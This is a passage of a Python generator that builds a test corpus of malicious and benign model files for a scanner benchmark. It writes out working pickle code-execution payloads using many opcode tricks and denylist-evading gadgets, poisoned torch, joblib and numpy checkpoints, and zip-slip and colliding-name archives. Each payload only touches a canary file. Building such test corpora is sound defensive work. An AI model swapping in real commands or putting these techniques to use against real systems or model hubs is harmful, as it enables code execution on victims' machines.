"""Deterministic corpus of malicious and benign model artifacts for the scanner tests and bench.

Malicious payloads only ever create one canary file (the path given to ``build_corpus``).
Run as a script to build a corpus and a ``manifest.json``: ``python generate.py DEST --canary PATH``.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import gzip
import io
import itertools
import json
import lzma
import marshal
import os
import pickle
import shlex
import shutil
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any


def _sibling(name: str) -> Any:
    """Import a module next to this file whether we run as a package, by path, or as a script."""
    import importlib.util
    import sys

    key = f"bastion_scan_corpus_{name}"
    if key not in sys.modules:
        spec = importlib.util.spec_from_file_location(key, Path(__file__).with_name(f"{name}.py"))
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules[key] = module
        spec.loader.exec_module(module)
    return sys.modules[key]


A = _sibling("_pickleasm")

FIXED_DATE = (1980, 1, 1, 0, 0, 0)
TOUCH = shutil.which("touch") or "/usr/bin/touch"


@dataclass(frozen=True)
class Sample:
    """One corpus file.

    ``loader`` names how its normal consumer opens it (see ``_load.py``); ``None`` means the
    sample does not execute code on load and ``structural`` names the check proving it is bad.
    Which peer scanners miss which sample is measured, not declared: see bench/scan/RESULTS.md.
    """

    name: str
    path: Path
    malicious: bool
    technique: str
    format: str
    loader: str | None = None
    structural: str | None = None

    def to_dict(self) -> dict[str, Any]:
        d = asdict(self)
        d["path"] = str(self.path)
        return d


@dataclass(frozen=True)
class Corpus:
    """A built corpus: its folder, the canary path its payloads target, and its samples."""

    root: Path
    canary: Path
    samples: tuple[Sample, ...]

    @property
    def malicious(self) -> tuple[Sample, ...]:
        return tuple(s for s in self.samples if s.malicious)

    @property
    def benign(self) -> tuple[Sample, ...]:
        return tuple(s for s in self.samples if not s.malicious)


class _Reduce:
    """An object that pickles as ``fn(*args)``: what an attacker's class would do."""

    def __init__(self, fn: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.fn, self.args)


# ----------------------------------------------------------------------------------------------
# helpers that write containers deterministically


def _zip(entries: list[tuple[str, bytes]], *, compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
            info.compress_type = compress
            info.external_attr = 0o644 << 16
            with warnings.catch_warnings():
                # zipfile warns about duplicate names; in duplicate_members.zip they are the point
                warnings.simplefilter("ignore", UserWarning)
                zf.writestr(info, data)
    return buf.getvalue()


def _tar(entries: list[tuple[str, bytes]], *, mode: str = "w") -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            info.uname = info.gname = ""
            tf.addfile(info, io.BytesIO(data))
    data = raw.getvalue()
    if mode == "w:gz":
        return gzip.compress(data, mtime=0)
    return data


def _normalize_zip(data: bytes) -> bytes:
    """Rewrite a zip with fixed timestamps so library-written zips (skops) are reproducible."""
    src = zipfile.ZipFile(io.BytesIO(data))
    return _zip([(i.filename, src.read(i)) for i in src.infolist()], compress=zipfile.ZIP_DEFLATED)


def _rezip_with_prefix(data: bytes, prefix: str) -> bytes:
    """Rename the top folder of a torch zip (torch.load takes it from the first record)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    entries = []
    for info in src.infolist():
        rest = info.filename.split("/", 1)[1]
        entries.append((f"{prefix}/{rest}", src.read(info)))
    return _zip(entries)


def _marshal_lambda(source: str) -> str:
    """base64(marshal(code)) of ``lambda x: <source>`` as Keras' ``func_dump`` writes it."""
    code = compile(f"lambda x: {source}", "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


# ----------------------------------------------------------------------------------------------
# structural checks: what makes a non-executing sample malicious (used by the canary test)


def _check_onnx_external_escape(path: Path) -> bool:
    import onnx

    model = onnx.load(str(path), load_external_data=False)
    for init in model.graph.initializer:
        for kv in init.external_data:
            if kv.key == "location":
                target = (path.parent / kv.value).resolve()
                if not target.is_relative_to(path.parent.resolve()):
                    return True
    return False


def _check_onnx_custom_domain(path: Path) -> bool:
    import onnx

    model = onnx.load(str(path), load_external_data=False)
    return any(n.domain not in ("", "ai.onnx", "ai.onnx.ml") for n in model.graph.node)


def _safetensors_header(path: Path) -> tuple[dict[str, Any], int, int]:
    data = path.read_bytes()
    (n,) = struct.unpack("<Q", data[:8])
    return json.loads(data[8 : 8 + n]), len(data) - 8 - n, n


def _check_safetensors_out_of_bounds(path: Path) -> bool:
    header, body, _ = _safetensors_header(path)
    return any(v["data_offsets"][1] > body for k, v in header.items() if k != "__metadata__")


def _check_safetensors_overlap(path: Path) -> bool:
    header, _, _ = _safetensors_header(path)
    spans = sorted(tuple(v["data_offsets"]) for k, v in header.items() if k != "__metadata__")
    return any(b[0] < a[1] for a, b in itertools.pairwise(spans))


def _check_safetensors_header_size(path: Path) -> bool:
    (n,) = struct.unpack("<Q", path.read_bytes()[:8])
    return n > path.stat().st_size


def _check_archive_member_escapes(path: Path) -> bool:
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
    return any(n.startswith("/") or ".." in Path(n).parts for n in names)


def _check_extraction_name_collision(path: Path) -> bool:
    """Extracting the zip where names are compared without case and '\\' is a separator (Windows,
    macOS; Info-ZIP unzip for '\\') leaves other bytes under a member's name than a reader that looks
    the name up exactly (``zipfile.ZipFile.read``, a reviewer) gets."""
    with zipfile.ZipFile(path) as zf:
        infos = zf.infolist()
        on_disk: dict[str, tuple[str, bytes]] = {}  # folded name -> (name the file was created as, bytes)
        for info in infos:
            key = info.filename.replace("\\", "/").casefold()
            first = on_disk.get(key, (info.filename, b""))[0]
            on_disk[key] = (first, zf.read(info))  # a later member overwrites the file
        return any(zf.read(name) != data for name, data in on_disk.values())


def _check_zip_bomb(path: Path) -> bool:
    with zipfile.ZipFile(path) as zf:
        total = sum(i.file_size for i in zf.infolist())
    return total >= 100 * 2**20 and total / path.stat().st_size > 500


def _check_gguf_header_lies(path: Path) -> bool:
    """The header claims more tensors/metadata entries than the file's bytes can hold (what a reader
    that trusts the counts allocates), or a string longer than the file."""
    data = path.read_bytes()
    _version, n_tensors, n_kv = struct.unpack("<IQQ", data[4:24])
    if n_tensors > len(data) // 8 or n_kv > len(data) // 8:
        return True
    if n_kv:
        (key_len,) = struct.unpack("<Q", data[24:32])
        return key_len > len(data)
    return False


STRUCTURAL_CHECKS: dict[str, Callable[[Path], bool]] = {
    "onnx_external_escape": _check_onnx_external_escape,
    "onnx_custom_domain": _check_onnx_custom_domain,
    "safetensors_out_of_bounds": _check_safetensors_out_of_bounds,
    "safetensors_overlap": _check_safetensors_overlap,
    "safetensors_header_size": _check_safetensors_header_size,
    "zip_bomb": _check_zip_bomb,
    "extraction_name_collision": _check_extraction_name_collision,
    "archive_member_escapes": _check_archive_member_escapes,
    "gguf_header_lies": _check_gguf_header_lies,
}


# ----------------------------------------------------------------------------------------------
# malicious samples


class _Builder:
    def __init__(self, dest: Path, canary: Path) -> None:
        self.dest = dest
        self.canary = str(canary)
        self.cmd = f"touch {shlex.quote(self.canary)}"
        self.py = f"open({self.canary!r}, 'w').close()"
        self.samples: list[Sample] = []

    def add(
        self,
        name: str,
        data: bytes,
        *,
        malicious: bool,
        technique: str,
        fmt: str,
        loader: str | None = None,
        structural: str | None = None,
    ) -> None:
        sub = "malicious" if malicious else "benign"
        path = self.dest / sub / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.samples.append(Sample(name, path, malicious, technique, fmt, loader, structural))

    def bad(self, name: str, data: bytes, technique: str, fmt: str, loader: str | None = "pickle", **kw: Any) -> None:
        self.add(name, data, malicious=True, technique=technique, fmt=fmt, loader=loader, **kw)

    # the payload as a pickle fragment that leaves the payload's result on the stack
    def os_system(self, *, g: Callable[[str, str], bytes] = A.glob) -> A.Raw:
        return A.call(g("os", "system"), self.cmd)


def _malicious_pickles(b: _Builder) -> None:
    C, cmd, py = b.canary, b.cmd, b.py
    touch = [TOUCH, C]

    # plain pickle.dumps of an attacker class, every protocol (GLOBAL for 0-3, STACK_GLOBAL for 4-5)
    for p in range(6):
        op = "GLOBAL" if p < 4 else "STACK_GLOBAL"
        b.bad(
            f"pickle_p{p}_os_system.pkl",
            pickle.dumps(_Reduce(os.system, (cmd,)), protocol=p),
            f"REDUCE os.system, protocol {p} ({op})",
            "pickle",
        )

    # --- opcode techniques -------------------------------------------------------------------
    b.bad(
        "inst_os_system_p0.pkl",
        A.MARK + A.text_unicode(cmd) + A.inst("os", "system") + A.STOP,
        "INST opcode (class-style call of os.system)",
        "pickle",
    )
    b.bad(
        "obj_subprocess_check_call_p1.pkl",
        A.MARK + A.glob("subprocess", "check_call") + A.value(touch) + A.OBJ + A.STOP,
        "OBJ opcode calling subprocess.check_call",
        "pickle",
    )
    # names pushed and memoised first, popped, then fetched back for STACK_GLOBAL
    memo_body = (
        A.ustr("builtins")
        + A.MEMOIZE
        + A.ustr("__import__")
        + A.MEMOIZE
        + A.ustr("vars")
        + A.MEMOIZE
        + A.ustr("_operator")
        + A.MEMOIZE
        + A.ustr("getitem")
        + A.MEMOIZE
        + A.POP
        + A.POP
        + A.POP
        + A.POP
        + A.POP
    )
    mod = A.call(A.binget(0) + A.binget(1) + A.STACK_GLOBAL, "os")
    d = A.call(A.binget(0) + A.binget(2) + A.STACK_GLOBAL, A.Raw(mod))
    fn = A.call(A.binget(3) + A.binget(4) + A.STACK_GLOBAL, A.Raw(d), "system")
    b.bad(
        "memo_stack_global_import_vars_getitem.pkl",
        A.program(memo_body + A.call(fn, cmd), protocol=4, framed=True),
        "STACK_GLOBAL names via MEMOIZE/BINGET: builtins.__import__ + vars + _operator.getitem -> os.system",
        "pickle",
    )
    # the same chain, protocol 2: GLOBAL with the py2 module name __builtin__ (mapped by fix_imports)
    mod2 = A.call(A.glob("__builtin__", "__import__"), "os")
    d2 = A.call(A.glob("__builtin__", "vars"), A.Raw(mod2))
    fn2 = A.call(A.glob("operator", "getitem"), A.Raw(d2), "system")
    b.bad(
        "py2_builtin_import_vars_getitem_p2.pkl",
        A.program(A.call(fn2, cmd), protocol=2),
        "__builtin__.__import__ + vars + operator.getitem (py2 names)",
        "pickle",
    )
    b.bad(
        "stack_global_binstring_names_p4.pkl",
        A.program(A.call(A.stack_global("subprocess", "run", push=A.short_binstring), touch), protocol=4),
        "STACK_GLOBAL with SHORT_BINSTRING names: subprocess.run",
        "pickle",
    )
    b.bad(
        "stack_global_binunicode8_p5.pkl",
        A.program(A.call(A.stack_global("posix", "system", push=A.ustr8), cmd), protocol=5, framed=True),
        "STACK_GLOBAL with BINUNICODE8 names, framed protocol 5: posix.system",
        "pickle",
    )
    b.bad(
        "text_memo_put_get_p0.pkl",
        A.text_unicode("ignored")
        + A.put(7)
        + A.POP
        + A.call(A.glob("os", "system"), cmd, text=True)
        + A.put(8)
        + A.POP
        + A.get(8)
        + A.STOP,
        "protocol 0 PUT/GET memo around os.system",
        "pickle",
    )
    # NEWOBJ builds functools.partial(os.system, cmd) without a REDUCE; a REDUCE with () then calls it
    part = A.Raw(A.glob("functools", "partial") + A.tup([A.glob("os", "system"), cmd]) + A.NEWOBJ)
    b.bad(
        "newobj_partial_os_system_p2.pkl",
        A.program(part + A.EMPTY_TUPLE + A.REDUCE, protocol=2),
        "NEWOBJ functools.partial(os.system) then called",
        "pickle",
    )
    partx = A.Raw(
        A.stack_global("functools", "partial")
        + A.tup([A.stack_global("subprocess", "run"), touch])
        + A.value({"check": True})
        + A.NEWOBJ_EX
    )
    b.bad(
        "newobj_ex_partial_subprocess_run_p4.pkl",
        A.program(partx + A.EMPTY_TUPLE + A.REDUCE, protocol=4),
        "NEWOBJ_EX functools.partial(subprocess.run, check=True) then called",
        "pickle",
    )
    # BUILD sets an instance attribute __setstate__ = os.system on an allowlisted OrderedDict;
    # the second BUILD then calls inst.__setstate__(state) == os.system(cmd)
    od = A.call(A.glob("collections", "OrderedDict"))
    build = (
        od
        + A.MARK
        + A.NONE
        + A.value({"__setstate__": A.glob("os", "system")})
        + A.TUPLE
        + A.BUILD
        + A.value(cmd)
        + A.BUILD
    )
    b.bad(
        "build_setstate_ordereddict_p2.pkl",
        A.program(build, protocol=2),
        "BUILD slot-state sets __setstate__=os.system on an OrderedDict, second BUILD calls it",
        "pickle",
    )
    # EXT: register (subprocess, getoutput) as extension code 0xF0 from inside the pickle, then EXT1
    reg = A.call(A.glob("copyreg", "add_extension"), "subprocess", "getoutput", 0xF0) + A.POP
    b.bad(
        "ext1_copyreg_add_extension_p2.pkl",
        A.program(reg + A.call(A.ext1(0xF0), cmd), protocol=2),
        "copyreg.add_extension + EXT1 opcode -> subprocess.getoutput",
        "pickle",
    )
    reg2 = A.call(A.stack_global("copyreg", "add_extension"), "posix", "system", 0x1F00) + A.POP
    b.bad(
        "ext2_copyreg_add_extension_p4.pkl",
        A.program(reg2 + A.call(A.ext2(0x1F00), cmd), protocol=4),
        "copyreg.add_extension + EXT2 opcode -> posix.system",
        "pickle",
    )

    # --- callables: the obvious ones and those missing from peer denylists -------------------
    gg = A.call(A.glob("builtins", "getattr"), A.call(A.glob("builtins", "__import__"), "os"), "system")
    b.bad(
        "getattr_import_gadget_p3.pkl",
        A.program(A.call(gg, cmd), protocol=3),
        "builtins.getattr(builtins.__import__('os'), 'system') gadget chain",
        "pickle",
    )
    b.bad(
        "builtins_exec_p3.pkl",
        A.program(A.call(A.glob("builtins", "exec"), py), protocol=3),
        "builtins.exec of Python source",
        "pickle",
    )
    b.bad(
        "builtins_eval_p1.pkl",
        A.program(A.call(A.glob("__builtin__", "eval"), py), protocol=1),
        "__builtin__.eval of an expression",
        "pickle",
    )
    b.bad(
        "builtins_open_p2.pkl",
        A.program(A.call(A.glob("builtins", "open"), C, "w"), protocol=2),
        "builtins.open for writing",
        "pickle",
    )
    b.bad(
        "runpy_run_code_p4.pkl",
        A.program(A.call(A.stack_global("runpy", "_run_code"), py, {}), protocol=4),
        "runpy._run_code",
        "pickle",
    )
    imp = A.call(A.stack_global("importlib", "import_module"), "os")
    mc = A.call(A.stack_global("operator", "methodcaller"), "system", cmd)
    b.bad(
        "importlib_methodcaller_p4.pkl",
        A.program(A.call(mc, A.Raw(imp)), protocol=4),
        "importlib.import_module + operator.methodcaller",
        "pickle",
    )
    ii = A.call(A.stack_global("code", "InteractiveInterpreter"))
    b.bad(
        "code_interactiveinterpreter_runsource_p4.pkl",
        A.program(A.call(A.stack_global("code", "InteractiveInterpreter.runsource"), A.Raw(ii), py), protocol=4),
        "dotted STACK_GLOBAL code.InteractiveInterpreter.runsource",
        "pickle",
    )
    pth = A.call(A.stack_global("pathlib", "Path"), C)
    b.bad(
        "pathlib_write_text_p4.pkl",
        A.program(A.call(A.stack_global("pathlib", "Path.write_text"), A.Raw(pth), "x"), protocol=4),
        "dotted STACK_GLOBAL pathlib.Path.write_text",
        "pickle",
    )
    b.bad(
        "timeit_timeit_p2.pkl",
        A.program(A.call(A.glob("timeit", "timeit"), py, "pass", A.glob("time", "perf_counter"), 1), protocol=2),
        "timeit.timeit runs a statement",
        "pickle",
    )
    b.bad(
        "numpy_testing_runstring_p4.pkl",
        A.program(A.call(A.stack_global("numpy.testing._private.utils", "runstring"), py, {}), protocol=4),
        "numpy.testing._private.utils.runstring (exec)",
        "pickle",
    )
    b.bad(
        "torch_collect_env_run_p2.pkl",
        A.program(A.call(A.glob("torch.utils.collect_env", "run"), cmd), protocol=2),
        "torch.utils.collect_env.run (shell command)",
        "pickle",
    )
    b.bad(
        "cprofile_run_p2.pkl",
        A.program(A.call(A.glob("cProfile", "run"), py), protocol=2),
        "cProfile.run executes a statement",
        "pickle",
    )
    bdb = A.call(A.stack_global("bdb", "Bdb"))
    b.bad(
        "bdb_run_p4.pkl",
        A.program(A.call(A.stack_global("bdb", "Bdb.run"), A.Raw(bdb), py), protocol=4),
        "bdb.Bdb.run executes a statement",
        "pickle",
    )
    b.bad(
        "distutils_spawn_p2.pkl",
        A.program(A.call(A.glob("distutils.spawn", "spawn"), touch), protocol=2),
        "distutils.spawn.spawn",
        "pickle",
    )
    coro = A.call(A.stack_global("asyncio.subprocess", "create_subprocess_exec"), TOUCH, C)
    b.bad(
        "asyncio_subprocess_p4.pkl",
        A.program(A.call(A.stack_global("asyncio", "run"), A.Raw(coro)), protocol=4),
        "asyncio.subprocess.create_subprocess_exec + asyncio.run",
        "pickle",
    )
    b.bad(
        "multiprocessing_spawnv_passfds_p3.pkl",
        A.program(
            A.call(A.glob("multiprocessing.util", "spawnv_passfds"), os.fsencode(TOUCH), touch, []),
            protocol=3,
        ),
        "multiprocessing.util.spawnv_passfds -> _posixsubprocess.fork_exec",
        "pickle",
    )
    code = compile(py, "<payload>", "exec")
    fnobj = A.call(A.glob("types", "FunctionType"), A.call(A.glob("marshal", "loads"), marshal.dumps(code)), {})
    b.bad(
        "marshal_functiontype_p3.pkl",
        A.program(A.call(fnobj), protocol=3),
        "marshal.loads + types.FunctionType (code object smuggled as bytes)",
        "pickle",
    )
    b.bad(
        "logging_rotatingfilehandler_p2.pkl",
        A.program(A.call(A.glob("logging.handlers", "RotatingFileHandler"), C), protocol=2),
        "logging.handlers.RotatingFileHandler creates a file",
        "pickle",
    )
    b.bad(
        "io_open_p4.pkl",
        A.program(A.call(A.stack_global("io", "open"), C, "w"), protocol=4),
        "io.open (resolves to _io.open) for writing",
        "pickle",
    )
    b.bad(
        "zipfile_zipfile_p2.pkl",
        A.program(A.call(A.glob("zipfile", "ZipFile"), C, "w"), protocol=2),
        "zipfile.ZipFile(mode='w') creates a file",
        "pickle",
    )
    b.bad(
        "numpy_savetxt_p2.pkl",
        A.program(A.call(A.glob("numpy", "savetxt"), C, [[1.0]]), protocol=2),
        "numpy.savetxt: a dangerous function in an allowlisted package",
        "pickle",
    )
    b.bad(
        "torch_save_p2.pkl",
        A.program(A.call(A.glob("torch", "save"), {}, C), protocol=2),
        "torch.save writes an arbitrary file",
        "pickle",
    )
    b.bad(
        "joblib_dump_p4.pkl",
        A.program(A.call(A.stack_global("joblib", "dump"), 0, C), protocol=4),
        "joblib.dump writes an arbitrary file",
        "pickle",
    )
    b.bad(
        "pydoc_pipepager_p2.pkl",
        A.program(A.call(A.glob("pydoc", "pipepager"), "x", cmd), protocol=2),
        "pydoc.pipepager runs a shell command",
        "pickle",
    )
    b.bad(
        "subprocess_popen_p2.pkl",
        A.program(A.call(A.glob("subprocess", "Popen"), touch), protocol=2),
        "subprocess.Popen",
        "pickle",
    )
    b.bad(
        "shutil_copyfile_p3.pkl",
        A.program(A.call(A.glob("shutil", "copyfile"), os.devnull, C), protocol=3),
        "shutil.copyfile writes a file",
        "pickle",
    )
    rn = A.call(A.stack_global("pkgutil", "resolve_name"), "os:system")
    b.bad(
        "pkgutil_resolve_name_p4.pkl",
        A.program(A.call(rn, cmd), protocol=4),
        "pkgutil.resolve_name('os:system')",
        "pickle",
    )
    b.bad(
        "pip_main_log_p4.pkl",
        A.program(
            A.call(
                A.stack_global("pip._internal.cli.main", "main"),
                ["--log", C, "--disable-pip-version-check", "--no-input", "list"],
            ),
            protocol=4,
        ),
        "pip._internal.cli.main.main writes its --log file",
        "pickle",
    )

    # --- malformed streams: the payload runs before the unpickler hits the defect --------------
    body = A.call(A.stack_global("subprocess", "check_call"), touch)
    b.bad(
        "malformed_truncated_after_reduce.pkl",
        A.proto(4) + body,
        "truncated after REDUCE (no STOP)",
        "pickle",
    )
    b.bad(
        "malformed_trailing_garbage.pkl",
        A.program(A.call(A.glob("os", "system"), cmd), protocol=2) + b"\xde\xad\xbe\xef" * 64,
        "trailing garbage after STOP",
        "pickle",
    )
    b.bad(
        "malformed_bad_opcode_after_payload.pkl",
        A.proto(2) + A.call(A.glob("posix", "system"), cmd) + b"\xff\xfe" + A.STOP,
        "unknown opcode after the payload",
        "pickle",
    )
    b.bad(
        "malformed_stack_underflow_after_payload.pkl",
        A.proto(4) + A.call(A.stack_global("os", "system"), cmd) + A.POP + A.POP + A.TUPLE + A.STOP,
        "stack underflow / missing MARK after the payload",
        "pickle",
    )
    first = pickle.dumps({"weights": [0.1, 0.2], "classes": ["a", "b"]}, protocol=4)
    second = pickle.dumps(_Reduce(os.system, (cmd,)), protocol=2)
    b.bad(
        "concatenated_benign_then_malicious.pkl",
        first + second,
        "two pickles in one file, the second malicious (read by a streaming loader)",
        "pickle",
        loader="pickle_stream",
    )

    # --- wrong or missing extensions (peers choose scanners by extension) --------------------
    b.bad(
        "model.sav",
        pickle.dumps(_Reduce(os.system, (cmd,)), protocol=4),
        "pickle with .sav extension",
        "pickle",
    )
    b.bad(
        "model_noext",
        pickle.dumps(_Reduce(os.system, (cmd,)), protocol=2),
        "pickle without an extension",
        "pickle",
    )
    b.bad(
        "notes.txt",
        A.call(A.glob("os", "system"), cmd, text=True) + A.STOP,
        "protocol 0 pickle (printable text) named .txt",
        "pickle",
    )


def _malicious_containers(b: _Builder) -> None:
    import joblib
    import numpy as np
    import torch

    C, cmd, py = b.canary, b.cmd, b.py
    touch = [TOUCH, C]

    # joblib, every compressor; the object also carries numpy arrays as joblib writes them
    payloads = {
        "none": _Reduce(os.system, (cmd,)),
        "zlib": _Reduce(__import__("subprocess").getoutput, (cmd,)),
        "gzip": _Reduce(exec, (py,)),
        "bz2": _Reduce(__import__("subprocess").call, (touch,)),
        "lzma": _Reduce(eval, (py,)),
        # joblib writes lz4 only with the 'lz4' package installed (the dev extra has it); the scanner
        # reads lz4 frames with or without it
        "lz4": _Reduce(__import__("subprocess").run, (touch,)),
    }
    for comp, payload in payloads.items():
        buf = io.BytesIO()
        obj = {"coef": np.arange(8, dtype=np.float64), "hook": payload}
        joblib.dump(obj, buf, compress=0 if comp == "none" else (comp, 3))
        ext = {"none": "joblib", "zlib": "joblib", "gzip": "joblib.gz", "bz2": "joblib.bz2", "lzma": "joblib.xz",
               "lz4": "joblib.lz4"}
        b.bad(
            f"model_{comp}.{ext[comp]}",
            buf.getvalue(),
            f"joblib dump, compression {comp}",
            "joblib",
            loader="joblib",
        )

    # PyTorch zip checkpoints
    torch.manual_seed(0)
    sd = OrderedDict(weight=torch.randn(4, 4), bias=torch.zeros(4))
    buf = io.BytesIO()
    torch.save({"state_dict": sd, "epoch": 3, "hook": _Reduce(os.system, (cmd,))}, buf)
    torch_zip = buf.getvalue()
    b.bad(
        "torch_zip_data_pkl.pt",
        torch_zip,
        "payload in archive/data.pkl of a torch zip",
        "torch",
        loader="torch",
    )
    buf = io.BytesIO()
    imp = _Reduce(__import__("importlib").import_module, ("os",))
    torch.save({"state_dict": sd, "hook": _Reduce(__import__("operator").methodcaller("system", cmd), (imp,))}, buf)
    b.bad(
        "torch_zip_unusual_prefix.pth",
        _rezip_with_prefix(buf.getvalue(), "resnet50-v2.best_0"),
        "torch zip whose inner pickle lives under an unusual folder name",
        "torch",
        loader="torch",
    )
    b.bad("pytorch_model.bin", torch_zip, "torch zip with .bin extension (HF style)", "torch", loader="torch")
    b.bad(
        "checkpoint_torch_zip.dat",
        torch_zip,
        "torch zip with a .dat extension",
        "torch",
        loader="torch",
    )
    # legacy (pre-1.6) non-zip format: magic number, protocol, sys_info, object, storage keys
    buf = io.BytesIO()
    torch.save(sd, buf, _use_new_zipfile_serialization=False)
    legacy = buf.getvalue()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    assert legacy.startswith(magic + version)
    sys_info = pickle.dumps(_Reduce(os.system, (cmd,)), protocol=2)
    rest = legacy[len(magic + version) :]
    # skip the real sys_info pickle to splice ours in
    bio = io.BytesIO(rest)
    pickle.load(bio)
    b.bad(
        "torch_legacy_sysinfo.pt",
        magic + version + sys_info + rest[bio.tell() :],
        "legacy torch pickle stream, payload in the sys_info record (third pickle)",
        "torch-legacy",
        loader="torch",
    )
    # legacy tar format: torch.load unpickles 'storages' first
    storages = pickle.dumps(_Reduce(__import__("subprocess").check_call, (touch,)), protocol=2)
    tar = _tar(
        [
            (
                "sys_info",
                pickle.dumps(
                    {
                        "protocol_version": 1001,
                        "little_endian": True,
                        "type_sizes": {"short": 2, "int": 4, "long": 4},
                    },
                    protocol=2,
                ),
            ),
            ("pickle", pickle.dumps(OrderedDict(), protocol=2)),
            ("storages", storages + pickle.dumps([], protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
        ]
    )
    b.bad(
        "torch_legacy_tar.tar",
        tar,
        "legacy torch tar checkpoint, payload in 'storages'",
        "torch-tar",
        loader="torch",
    )

    # numpy object arrays
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = 1.5, _Reduce(os.system, (cmd,))
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    npy = buf.getvalue()
    b.bad("object_array.npy", npy, "numpy .npy object array (pickle inside)", "numpy", loader="numpy")
    ok = io.BytesIO()
    np.save(ok, np.arange(10, dtype=np.float32))
    b.bad(
        "object_array.npz",
        _zip([("weights.npy", ok.getvalue()), ("meta.npy", npy)]),
        "numpy .npz holding an object array",
        "numpy",
        loader="npz",
    )
    b.bad(
        "object_array_npy.bin",
        npy,
        ".npy object array with a .bin extension",
        "numpy",
        loader="numpy",
    )

    # archives and compressed files holding pickles
    mal_pkl = pickle.dumps(_Reduce(os.system, (cmd,)), protocol=4)
    b.bad(
        "zip_with_pt.zip",
        _zip([("model/README.md", b"a model\n"), ("model/model.pt", torch_zip)], compress=zipfile.ZIP_DEFLATED),
        "zip archive containing a malicious torch checkpoint",
        "zip",
        loader="zip:model/model.pt>torch",
    )
    b.bad(
        "model.tar.gz",
        _tar([("model/model.pkl", mal_pkl)], mode="w:gz"),
        "tar.gz containing a pickle",
        "tar",
        loader="tar:model/model.pkl>pickle",
    )
    b.bad(
        "model.tar",
        _tar([("model.joblib", mal_pkl)]),
        "plain tar containing a joblib-named pickle",
        "tar",
        loader="tar:model.joblib>pickle",
    )
    b.bad(
        "model.pkl.gz",
        gzip.compress(mal_pkl, mtime=0),
        "gzip-compressed pickle",
        "gzip",
        loader="gzip>pickle",
    )
    b.bad(
        "model.pkl.bz2",
        bz2.compress(mal_pkl),
        "bz2-compressed pickle",
        "bz2",
        loader="bz2>pickle",
    )
    b.bad(
        "model.pkl.xz",
        lzma.compress(mal_pkl),
        "xz-compressed pickle",
        "xz",
        loader="xz>pickle",
    )
    b.bad(
        "nested.zip",
        _zip([("inner.zip", _zip([("deep/model.pkl", mal_pkl)]))]),
        "zip inside a zip holding a pickle",
        "zip",
        loader="zip:inner.zip>zip:deep/model.pkl>pickle",
    )
    seven = _sevenzip([("model.pkl", mal_pkl)])
    if seven is not None:
        b.bad(
            "model.7z",
            seven,
            "7z archive containing a pickle",
            "7z",
            loader="7z:model.pkl>pickle",
        )
    b.bad(
        "zip_slip.zip",
        _zip([("../../evil/model.pkl", mal_pkl)]),
        "zip-slip member name ../../ holding a pickle",
        "zip",
        loader="zip:../../evil/model.pkl>pickle",
    )
    b.bad(
        "tar_slip.tar",
        _tar([("../../evil/model.pkl", mal_pkl)]),
        "tar-slip member name ../../ holding a pickle",
        "tar",
        loader="tar:../../evil/model.pkl>pickle",
    )
    # harmless content: only the member name is the attack (a naive extractall writes the canary)
    b.bad(
        "tar_slip_writes_file.tar",
        _tar([("model/README.md", b"a model\n"), ("../" * 24 + C.lstrip("/"), b"x")]),
        "tar-slip member name that escapes the extraction folder (harmless content)",
        "tar",
        loader="tar_extract",
    )
    benign_pkl = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
    b.bad(
        "zip_slip_harmless_content.zip",
        _zip([("model/config.json", b"{}"), ("../../../etc/cron.d/model.pkl", benign_pkl)]),
        "zip-slip member name with harmless content (zipfile sanitises it; other extractors may not)",
        "zip",
        loader=None,
        structural="archive_member_escapes",
    )
    b.bad(
        "duplicate_members.zip",
        _zip([("model.pkl", benign_pkl), ("model.pkl", mal_pkl)]),
        "zip with duplicate member names, benign first, malicious second (zipfile reads the last)",
        "zip",
        loader="zip:model.pkl>pickle",
    )
    # member names that differ but name one file once extracted: the copy a reader looks up by its
    # exact name (benign) is not the one the extraction leaves on disk (malicious)
    b.bad(
        "colliding_members_dotslash.zip",
        _zip([("model/data.pkl", benign_pkl), ("./model/data.pkl", mal_pkl)]),
        "colliding member names model/data.pkl (benign) and ./model/data.pkl (malicious): "
        "zipfile.extractall writes both to model/data.pkl, the last one wins",
        "zip",
        loader="zip_extract:model/data.pkl>pickle",
    )
    b.bad(
        "colliding_members_dotslash.tar",
        _tar([("model.pkl", benign_pkl), ("./model.pkl", mal_pkl)]),
        "colliding member names model.pkl (benign) and ./model.pkl (malicious): tarfile.extractall "
        "with the safe 'data' filter writes both to model.pkl, the last one wins",
        "tar",
        loader="tar_extract:model.pkl>pickle",
    )
    b.bad(
        "colliding_members_case.zip",
        _zip([("data.pkl", benign_pkl), ("DATA.pkl", mal_pkl)]),
        "colliding member names differing only in case, data.pkl (benign) and DATA.pkl (malicious): "
        "extracting on a case-insensitive file system (Windows, macOS) leaves the malicious bytes in data.pkl",
        "zip",
        loader=None,
        structural="extraction_name_collision",
    )
    b.bad(
        "colliding_members_backslash.zip",
        _zip([("archive/data.pkl", benign_pkl), ("archive\\data.pkl", mal_pkl)]),
        "colliding member names archive/data.pkl (benign) and archive\\data.pkl (malicious): Info-ZIP "
        "unzip and Windows extractors read '\\' as a separator and write the malicious copy last",
        "zip",
        loader=None,
        structural="extraction_name_collision",
